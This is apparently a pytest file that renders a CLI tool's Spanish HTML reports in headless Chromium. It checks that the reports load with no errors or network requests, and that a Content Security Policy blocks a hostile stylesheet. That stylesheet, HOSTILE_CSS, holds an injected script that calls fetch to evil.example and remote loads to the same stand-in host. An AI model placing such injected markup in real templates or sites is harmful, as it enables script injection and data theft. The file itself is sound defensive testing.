"""The HTML reports in a real browser: headless Chromium (Debian's `chromium`,
installed by .ci/run) driven by Playwright. No console errors, no network
requests (the files are self-contained), and a screenshot of each."""

from __future__ import annotations

import os
import shutil

import pytest

from conftest import EXAMPLE

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")

pytestmark = pytest.mark.skipif(
    CHROMIUM is None and not os.environ.get("CI"), reason="chromium no está instalado (en CI sí se instala)"
)


@pytest.fixture(scope="module")
def report_dir(tmp_path_factory):
    from coprod_cli.cli import main

    out = tmp_path_factory.mktemp("informes-html")
    with pytest.raises(SystemExit) as exc:
        main(["report", str(EXAMPLE), "--out", str(out), "--as-of", "2016-01", "--format", "html"])
    assert exc.value.code == 0
    return out


def test_reports_render_in_chromium_without_errors_or_requests(report_dir, tmp_path):
    assert CHROMIUM, "chromium is required in CI"
    from playwright.sync_api import sync_playwright

    pages = sorted(report_dir.glob("*.html"))
    assert len(pages) == 20  # 13 and the minutes of the seven sessions held by January 2016
    shots = tmp_path / "capturas"
    shots.mkdir()
    with sync_playwright() as pw:
        browser = pw.chromium.launch(
            executable_path=CHROMIUM,
            args=["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-first-run"],
        )
        try:
            for path in pages:
                page = browser.new_page(viewport={"width": 1280, "height": 900})
                errors: list[str] = []
                requests: list[str] = []
                page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
                page.on("pageerror", lambda e: errors.append(str(e)))
                url = path.as_uri()
                page.on("request", lambda r: requests.append(r.url) if r.url != url else None)
                page.goto(url, wait_until="load")
                assert page.evaluate("document.documentElement.lang") == "es"
                assert page.title().endswith("Desamparados")
                # The pictures are real SVG with a size, not empty boxes.
                sizes = page.evaluate("[...document.querySelectorAll('svg')].map(s => s.getBoundingClientRect().width)")
                assert sizes and all(w > 0 for w in sizes), path.name
                shot = shots / f"{path.stem}.png"
                page.screenshot(path=str(shot), full_page=True)
                assert shot.stat().st_size > 10_000
                assert errors == [], (path.name, errors)
                assert requests == [], (path.name, requests)
                page.close()
            # Print (A4) works: a PDF of the agreement sheet has pages.
            page = browser.new_page()
            page.goto((report_dir / "ficha-imas-ina-mapeo-familias.html").as_uri())
            pdf = page.pdf(format="A4")
            assert pdf[:4] == b"%PDF" and pdf.count(b"/Type /Page") >= 2
        finally:
            browser.close()


HOSTILE_CSS = """@import url(https://evil.example/x.css);
body { color: #222; background: url(https://evil.example/fondo.png); }
</style><script>document.title = 'pwned'; fetch('https://evil.example/robado')</script>
<img src="https://evil.example/pixel.png"><style>
"""


def test_the_content_security_policy_stops_what_a_hostile_style_sheet_adds(tmp_path):
    """Issue 11, item 11: a pull request touching only `templates/reports/style.css`
    adds a script and remote loads to every report; the browser runs and loads none."""
    assert CHROMIUM, "chromium is required in CI"
    from playwright.sync_api import sync_playwright

    from coprod_cli.cli import main

    repo = tmp_path / "canton"
    shutil.copytree(EXAMPLE, repo, ignore=shutil.ignore_patterns(".coprod-cache"))
    (repo / "templates" / "reports").mkdir(parents=True)
    (repo / "templates" / "reports" / "style.css").write_text(HOSTILE_CSS, encoding="utf-8")
    out = tmp_path / "informes"
    with pytest.raises(SystemExit) as exc:
        main(["report", str(repo), "--out", str(out), "--as-of", "2016-01", "--format", "html", "--only", "indice"])
    assert exc.value.code == 0
    page_path = out / "index.html"
    assert "<script>" in page_path.read_text(encoding="utf-8")  # the template did add it
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu", "--no-first-run"])
        try:
            page = browser.new_page()
            requests: list[str] = []
            errors: list[str] = []
            failed: list[str] = []
            page.on("request", lambda r: requests.append(r.url) if r.url != page_path.as_uri() else None)
            page.on("requestfailed", lambda r: failed.append(r.url) if r.failure == "csp" else None)
            page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
            page.goto(page_path.as_uri(), wait_until="load")
            page.wait_for_timeout(300)
            assert page.title().endswith("Desamparados")  # the script did not run
            # Every remote load the page tried was stopped by the policy, before the network.
            assert "https://evil.example/pixel.png" in requests and sorted(requests) == sorted(failed), (requests, failed)
            assert any("Content Security Policy" in e for e in errors), errors  # the browser says why
        finally:
            browser.close()
